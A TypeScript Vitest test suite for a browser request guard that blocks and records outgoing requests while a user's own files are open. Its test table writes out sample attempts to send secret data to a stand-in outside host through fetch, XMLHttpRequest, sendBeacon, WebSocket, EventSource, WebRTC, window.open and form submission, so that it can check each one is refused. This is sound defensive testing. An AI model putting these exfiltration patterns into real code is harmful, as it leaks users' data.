/**
 * Guarantee: while files of the reader's own are in use nothing on the page can make a request, and one that is made all the
 * same is counted. Without it “no request leaves this page” would be a promise that nothing keeps.
 */
import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { guardRequests, type Attempt, type Scope } from './guard.ts';
import { countRequests } from './request-count.ts';

let frame: HTMLIFrameElement;
let scope: Scope;
let refused: Attempt[];
let release: () => void;

/** A page of its own, since the test runner's needs its connections. */
beforeEach(() => {
	frame = document.body.appendChild(document.createElement('iframe'));
	scope = frame.contentWindow as Scope;
	refused = [];
	release = guardRequests({ scope, onRefused: (attempt) => refused.push(attempt) });
});

afterEach(() => {
	release();
	frame.remove();
});

const ELSEWHERE = 'https://elsewhere.example/?rows=secret';

test.each<[string, (scope: Scope) => unknown]>([
	['fetch', (page) => page.fetch(ELSEWHERE)],
	['fetch', (page) => page.fetch(`${location.origin}/x`, { method: 'POST', body: 'rows' })],
	['fetch', (page) => page.fetch(`${location.origin}/x?rows=secret`)],
	['fetch', (page) => page.fetch(new page.Request(ELSEWHERE))],
	[
		'XMLHttpRequest',
		(page) => {
			const request = new page.XMLHttpRequest();
			request.open('POST', ELSEWHERE);
			request.send('rows');
		},
	],
	['sendBeacon', (page) => page.navigator.sendBeacon(ELSEWHERE, 'rows')],
	['WebSocket', (page) => new page.WebSocket('wss://elsewhere.example/')],
	['EventSource', (page) => new page.EventSource(ELSEWHERE)],
	['RTCPeerConnection', (page) => new page.RTCPeerConnection({})],
	['window.open', (page) => page.open(ELSEWHERE)],
	[
		'form',
		(page) => {
			const form = page.document.body.appendChild(page.document.createElement('form'));
			form.action = ELSEWHERE;
			form.submit();
		},
	],
	[
		'form',
		(page) => {
			const form = page.document.body.appendChild(page.document.createElement('form'));
			form.action = ELSEWHERE;
			form.requestSubmit();
		},
	],
])('%s is refused and told, without what it carried', async (by, attempt) => {
	const before = performance.getEntriesByType('resource').length;
	try {
		await attempt(scope);
	} catch (error) {
		expect(String(error)).toContain('Refused');
	}
	expect(refused).toHaveLength(1);
	expect(refused[0]).toMatchObject({ by });
	expect(refused[0]?.address).not.toContain('secret');
	expect(scope.performance.getEntriesByType('resource')).toEqual([]);
	expect(performance.getEntriesByType('resource')).toHaveLength(before);
});

test('what lies in the page can be read, and a form the page handles itself is left to it', async () => {
	const blob = URL.createObjectURL(new Blob(['own']));
	expect(await (await scope.fetch(blob)).text()).toBe('own');
	expect(await (await scope.fetch('data:text/plain,own')).text()).toBe('own');
	const form = scope.document.body.appendChild(scope.document.createElement('form'));
	form.addEventListener('submit', (event) => event.preventDefault());
	form.requestSubmit();
	expect(refused).toEqual([]);
});

test('a file of the site comes from what the browser has, or not at all', async () => {
	const looked: string[] = [];
	release();
	release = guardRequests({ scope, onRefused: () => undefined, onLooked: (address) => looked.push(address) });
	await expect(scope.fetch(`${location.origin}/never-fetched-${crypto.randomUUID()}`)).rejects.toThrow();
	expect(looked).toHaveLength(1);
});

test('all is as before once the guard is gone', async () => {
	release();
	const { fetch, open } = scope;
	expect(String(fetch)).toContain('[native code]');
	expect(String(open)).toContain('[native code]');
	expect(await (await scope.fetch(location.href)).text()).not.toBe('');
	expect(refused).toEqual([]);
});

test('a request that is made all the same is counted', async () => {
	const seen: Attempt[] = [];
	const end = countRequests({ scope, onRequest: (attempt) => seen.push(attempt), isLookedFor: () => false });
	const picture = new scope.Image();
	picture.src = `${location.origin}/favicon.svg?${crypto.randomUUID()}`;
	scope.document.body.append(picture);
	await vi.waitFor(() => expect(seen).toHaveLength(1));
	expect(seen[0]?.by).toBe('img');
	end();
});
